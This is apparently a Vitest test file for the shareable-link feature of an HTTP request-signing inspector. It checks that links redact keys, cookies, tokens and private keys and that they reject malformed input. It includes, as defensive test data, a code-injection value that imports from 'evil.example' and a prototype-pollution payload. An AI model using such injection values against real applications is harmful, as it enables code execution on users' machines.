import { expect, test } from 'vitest'
import { EMPTY_CHECK, EMPTY_SIGN, type Forms, withoutKeys } from '../../../src/inspector/forms.js'
import { formsOf, fragmentOf, withoutSecrets } from '../../../src/inspector/link.js'

const SECRET = 'hunter2-hunter2'
const CHECK = {
  ...EMPTY_CHECK,
  text: 'POST /é?a=1 HTTP/1.1\nHost: a.example\n\n{"name":"ü 🗝"}',
  scheme: 'okx',
  stringToSign: 'a\tb\r\n',
  refusal: 'HTTP/1.1 401 Unauthorized',
  at: 'now',
}

const opened = (fragment: string): string => JSON.stringify(formsOf(fragment))

test('a link gives back everything that was typed, byte for byte', () => {
  const forms: Forms = { side: 'check', check: CHECK, sign: EMPTY_SIGN }
  expect(formsOf(fragmentOf(forms))).toEqual(forms)
  const sign = { ...EMPTY_SIGN, url: 'https://b.example/', components: '@method date', nonce: 'n' }
  expect(formsOf(fragmentOf({ side: 'sign', check: CHECK, sign }))).toEqual({ side: 'sign', check: EMPTY_CHECK, sign })
})

test('a link holds neither a key nor a passphrase, nor a text that contains one', () => {
  const check = {
    ...CHECK,
    key: ` ${SECRET}\n`,
    passphrase: 'a "phrase" of mine',
    text: `curl -H 'X-Debug: ${SECRET}' -d '{"p":"a \\"phrase\\" of mine"}' 'https://a.example/?s=${SECRET}'`,
    stringToSign: SECRET,
  }
  const fragment = fragmentOf({ side: 'check', check, sign: { ...EMPTY_SIGN, key: 'another-secret' } })
  expect(opened(fragment)).not.toMatch(/hunter2|phrase\W+ of mine|another-secret/)
  expect(opened(fragment)).toContain("X-Debug: [secret]' -d")
  const keys = { key: SECRET, keyPassphrase: 'of the key', passphrase: 'phrase' }
  const sign = { ...EMPTY_SIGN, ...keys, headers: `X-Key: ${SECRET}`, tag: 'of the key' }
  expect(opened(fragmentOf({ side: 'sign', check: EMPTY_CHECK, sign }))).not.toMatch(/hunter2|phrase":"p|of the key/)
})

test.each([
  ['a passphrase of an exchange', 'OK-ACCESS-PASSPHRASE: open-sesame', 'OK-ACCESS-PASSPHRASE: [secret]'],
  ['one in a curl line', "-H 'KC-API-PASSPHRASE: open-sesame' -H 'A: b'", "-H 'KC-API-PASSPHRASE: [secret]' -H 'A: b'"],
  ['one in JSON', '{"ok-access-passphrase": "open-sesame","a":1}', '{"ok-access-passphrase": "[secret]","a":1}'],
  ['one in a HAR', '{"name": "Cookie", "value": "open-sesame"}', '{"name": "Cookie", "value": "[secret]"}'],
  ['a cookie', 'Cookie: sid=open-sesame; b=2\r\nHost: a', 'Cookie: [secret]\r\nHost: a'],
  ['a bearer token', 'Authorization: Bearer open-sesame', 'Authorization: Bearer [secret]'],
  ['a private key', 'x\n-----BEGIN PRIVATE KEY-----\nopen-sesame\n-----END PRIVATE KEY-----\ny', 'x\n[secret]\ny'],
  ['half a private key', '-----BEGIN EC PRIVATE KEY-----\nopen-sesame', '[secret]'],
])('%s in the request is taken out, though it was not typed as a key', (_what, text, left) => {
  expect(withoutSecrets(text, [])).toBe(left)
})

test('a signature and what it covers stay: without them there is nothing to look at', () => {
  const text = 'Authorization: Signature keyId="a"\nSignature: sig1=:AAAA:\nOK-ACCESS-SIGN: abc\nX-MBX-APIKEY: k'
  expect(withoutSecrets(text, [])).toBe(text)
})

test.each([
  ['no fragment', ''],
  ['another one', '#top'],
  ['a text that is no base64', '#check=a'],
  ['bytes that are no UTF-8', '#check=__8'],
  ['no JSON', `#check=${btoa('{')}`],
  ['JSON that is no object', '#check=bnVsbA'],
])('%s is no link', (_what, fragment) => {
  expect(formsOf(fragment)).toBeUndefined()
})

test('what a link has no business to state is not taken from it', () => {
  const given = { key: SECRET, passphrase: 'x', text: 7, __proto__: 'x', constructor: 'y', at: 'now' }
  const fragment = `#check=${btoa(JSON.stringify(given)).replace(/=+$/, '')}`
  expect(formsOf(fragment)?.check).toEqual({ ...EMPTY_CHECK, at: 'now' })
})

test('a link plants no code: words of the program are words, or are left out', () => {
  const hostile = "okx'\nimport('https://evil.example/')//"
  for (const [side, name] of [
    ['sign', 'scheme'],
    ['sign', 'algorithm'],
    ['sign', 'method'],
    ['sign', 'bodyAs'],
    ['check', 'scheme'],
    ['check', 'algorithm'],
  ] as const) {
    const text = Buffer.from(JSON.stringify({ [name]: hostile, url: 'https://a.example/' })).toString('base64url')
    const forms = formsOf(`#${side}=${text}`)
    expect(forms).toBeDefined()
    expect(JSON.stringify(forms)).not.toContain('evil')
  }
})

test('a link that is too long is neither made nor opened', () => {
  const check = { ...CHECK, text: 'x'.repeat(200_000) }
  expect(fragmentOf({ side: 'check', check, sign: EMPTY_SIGN })).toBe('')
  const long = Buffer.from(JSON.stringify({ text: 'x'.repeat(5_000_000) })).toString('base64url')
  expect(formsOf(`#check=${long}`)).toBeUndefined()
})

test('a link changes no prototype', () => {
  const text = Buffer.from('{"__proto__":{"polluted":"yes"},"constructor":"x","text":"a"}').toString('base64url')
  const forms = formsOf(`#check=${text}`) as Forms
  expect(forms.check).toEqual({ ...EMPTY_CHECK, text: 'a' })
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  expect((forms.check as unknown as Record<string, unknown>)['polluted']).toBeUndefined()
})

test('the forms without the keys are the rest as it was', () => {
  const full = {
    side: 'sign',
    check: { ...CHECK, key: SECRET },
    sign: { ...EMPTY_SIGN, key: SECRET, passphrase: 'p' },
  } as const
  const left = withoutKeys(full)
  expect(JSON.stringify(left)).not.toMatch(/hunter2|"p"/)
  expect(left).toMatchObject({ side: 'sign', check: { text: CHECK.text }, sign: { url: EMPTY_SIGN.url } })
})
